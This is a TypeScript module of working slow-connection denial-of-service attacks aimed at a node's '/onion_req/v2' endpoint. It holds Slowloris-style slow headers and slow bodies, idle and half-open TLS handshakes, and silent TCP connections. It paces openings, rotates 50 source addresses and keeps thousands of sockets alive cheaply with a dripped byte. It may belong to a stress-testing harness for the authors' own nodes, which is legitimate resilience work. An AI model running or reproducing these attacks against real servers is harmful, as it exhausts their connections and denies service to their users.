import type { Socket } from 'node:net';
import { pace, sourceAddress, timeOver, type Attack, type Tally, type Target } from './attack.js';
import { openTcp, openTls } from './sockets.js';

/** As slow as one can be and still look alive. */
const DRIP_MS = 500;
const SOURCES = 50;
/** Connections on their way at the same time: what one address in fifty may have waiting, and what this machine opens. */
const OPENING_AT_ONCE = 200;

interface Slow {
  readonly open: (target: Target, source: string) => Promise<Socket | null>;
  readonly first: string;
  readonly drip: string;
  /** A connection says it in every so many looks: in every one when nothing is said. */
  readonly every?: number;
}

/** Makes `count` connections and keeps each for as long as the node lets it, with a byte now and then. */
function slow({ open, first, drip, every = 1 }: Slow): Attack {
  return async (target, stopped, tally) => {
    const crowd = new Crowd(target.patienceMs, { drip, every }, tally, stopped);
    const isOver = timeOver(target, stopped);
    const mayBegin = pace(target.perSecond);
    let next = 0;
    const opener = async (): Promise<void> => {
      while (next < target.count) {
        const source = sourceAddress(next++, SOURCES);
        await mayBegin();
        if (isOver()) return;
        tally.begun();
        const socket = await open(target, source);
        if (socket === null) tally.ended('refused');
        else crowd.add(socket, first);
      }
    };
    await Promise.all(Array.from({ length: OPENING_AT_ONCE }, opener));
    await crowd.allEnded();
  };
}

/** Connections that are held open: one timer for all, so that ten thousand cost the attacker little. */
class Crowd {
  private readonly held = new Map<Socket, number>();
  private readonly timer: NodeJS.Timeout;
  private whenEmpty: () => void = () => undefined;
  private looks = 0;

  constructor(
    private readonly patienceMs: number,
    private readonly says: Required<Pick<Slow, 'drip' | 'every'>>,
    private readonly tally: Tally,
    stopped: AbortSignal,
  ) {
    this.timer = setInterval(() => this.look(), DRIP_MS);
    stopped.addEventListener('abort', () => clearInterval(this.timer));
  }

  add(socket: Socket, first: string): void {
    this.tally.add('taken');
    this.held.set(socket, performance.now());
    this.tally.most('most_at_once', this.held.size);
    socket.once('close', () => this.end(socket, 'closed')).resume();
    if (first !== '') socket.write(first, 'latin1');
  }

  async allEnded(): Promise<void> {
    if (this.held.size > 0) await new Promise<void>((resolve) => (this.whenEmpty = resolve));
    clearInterval(this.timer);
  }

  private look(): void {
    const now = performance.now();
    const { drip, every } = this.says;
    let turn = this.looks++;
    for (const [socket, since] of this.held) {
      if (now - since > this.patienceMs) this.end(socket, 'kept');
      else if (turn++ % every === 0 && drip !== '' && socket.writable) socket.write(drip, 'latin1');
    }
  }

  private end(socket: Socket, outcome: 'closed' | 'kept'): void {
    const since = this.held.get(socket);
    if (since === undefined) return;
    this.held.delete(socket);
    this.tally.most('longest_ms', performance.now() - since);
    this.tally.ended(outcome);
    socket.destroy();
    if (this.held.size === 0) this.whenEmpty();
  }
}

/** A TLS record that announces 512 bytes of handshake, and the first of them. */
const HALF_HELLO = '\x16\x03\x01\x02\x00\x01';

export const slowHeaders = slow({
  open: openTls,
  first: 'POST /onion_req/v2 HTTP/1.1\r\nHost: x\r\nX-Slow: ',
  drip: 'a',
});

export const slowBodies = slow({
  open: openTls,
  first: 'POST /onion_req/v2 HTTP/1.1\r\nHost: x\r\nContent-Length: 1048576\r\n\r\n',
  drip: 'a',
});

/** A handshake, and then nothing. */
export const idle = slow({ open: openTls, first: '', drip: '' });

const SOME_REQUEST = 'GET / HTTP/1.1\r\nHost: x\r\n\r\n';

/** Whoever asks for something every three seconds is no idler. */
export const keptAlive = slow({ open: openTls, first: SOME_REQUEST, drip: SOME_REQUEST, every: 6 });

/** Not even a handshake, so that a machine has ten thousand of them within seconds. */
export const silent = slow({ open: openTcp, first: '', drip: '' });

export const halfOpenTls = slow({ open: openTcp, first: HALF_HELLO, drip: '' });
